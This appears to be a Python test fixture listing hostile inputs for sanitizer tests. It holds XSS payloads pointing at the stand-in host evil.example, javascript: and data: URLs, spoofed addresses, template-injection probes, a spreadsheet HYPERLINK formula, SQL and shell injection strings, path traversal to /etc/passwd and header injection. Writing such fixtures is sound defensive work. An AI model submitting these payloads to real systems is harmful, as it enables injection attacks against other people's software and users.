"""Words that try to be more than words, of our own making: markup, scripts, styles, templates, addresses, and what hides them."""

RUN = "document.title='run'"  # what a page that was broken into says of itself
ELSEWHERE = "https://evil.example"  # whoever is asked for anything there has lost

# By what they try. In each group the first characters differ, for some fields show no more than these.
GROUPS: dict[str, tuple[str, ...]] = {
    "elements": (
        f'<img src={ELSEWHERE}/i onerror="{RUN}">',
        f"<script>{RUN}</script>",
        f"<script src={ELSEWHERE}/s.js></script>",
        f"<svg/onload={RUN}><animate onbegin={RUN} attributeName=x>",
        f"<iframe srcdoc='<script>parent.{RUN}</script>'></iframe><iframe src=javascript:{RUN}>",
        f"<object data={ELSEWHERE}/o></object><embed src={ELSEWHERE}/e>",
        f"<video><source onerror={RUN}></video><audio src={ELSEWHERE}/a autoplay>",
        f"<details open ontoggle={RUN}><summary>x</summary></details>",
        f"<base href={ELSEWHERE}/><meta http-equiv=refresh content='0;url={ELSEWHERE}/m'>",
        f"<link rel=stylesheet href={ELSEWHERE}/l.css><style>@import '{ELSEWHERE}/c.css';*{{color:red}}</style>",
        f"<form action={ELSEWHERE}/f><input autofocus onfocus={RUN}><button formaction=javascript:{RUN}>",
        f"<math><mtext><table><mglyph><style><img src=x onerror={RUN}></style></mglyph></table></mtext></math>",
        f"<noscript><p title='</noscript><img src=x onerror={RUN}>'>",
        f"<template><script>{RUN}</script></template><x-y onclick={RUN}>",
    ),
    "ways out": (
        f"\"' onmouseover=\"{RUN}\" onfocus='{RUN}' autofocus x='",
        f"'-{RUN}-' \\'-{RUN}-// \";{RUN};\"",
        f"</textarea></title></style></script></noscript></template></select></svg><img src=x onerror={RUN}>",
        f"--><img src=x onerror={RUN}><!-- ]]><img src=x onerror={RUN}><![CDATA[",
        f"`onmouseover={RUN}` \u2028{RUN}\u2029",
        f'"><a href=javascript:{RUN}>x</a>',
        f'x" style="background:url({ELSEWHERE}/b)" "',
        f"&lt;img src=x onerror={RUN}&gt; &#60;script&#62;{RUN}&#60;/script&#62; &quot; onload={RUN}",
        f"%3Cscript%3E{RUN}%3C/script%3E \\u003cscript\\u003e{RUN}\\u003c/script\\u003e",
        f"\ufeff<\u200bscript>{RUN}</script> \uff1cscript\uff1e{RUN}",
        "\u202egpj.exe\u202c \u2066\u2067 \x00 \x1b[31m \r\nSet-Cookie: a=b",
    ),
    "addresses": (
        f"javascript:{RUN}",
        f"JaVaScRiPt\t:{RUN} java\nscript:{RUN}",
        f"data:text/html,<script>{RUN}</script>",
        f"vbscript:msgbox(1) file:///etc/passwd blob:{ELSEWHERE}/x",
        f"at //evil.example/x {ELSEWHERE}/?a=\"onmouseover={RUN} http://evil.example/'>x",
        f"[press](javascript:{RUN}) ![x]({ELSEWHERE}/p.png) <{ELSEWHERE}|https://shop.example>",
        "https://shop.example@evil.example/ https://evil.example\\@shop.example https://\u0430pple.example",
        "mailto:a@b.example?bcc=evil@evil.example tel:+1;evil",
    ),
    "templates": (
        "{{7*7}} {{config}} {%print(7*7)%} {# #} ${7*7} #{7*7} <%= 7*7 %>",
        "{{''.__class__.__mro__[1].__subclasses__()}} {0.__class__} %(x)s %s {name!r}",
        '=HYPERLINK("http://evil.example") +1 -1 @SUM(1) |calc',
        "<!channel> <@U0TOM> <!here|x> *bold* _x_ ~x~ `x` ```x``` &amp;",
        "'; DROP TABLE messages; -- \" OR 1=1 /* */ \\",
        "$(touch x) `touch x` ; touch x | touch x && touch x ../../etc/passwd",
        "__proto__ constructor toString [object Object] NaN null undefined",
    ),
}
EVERYTHING = " ".join(text for group in GROUPS.values() for text in group)
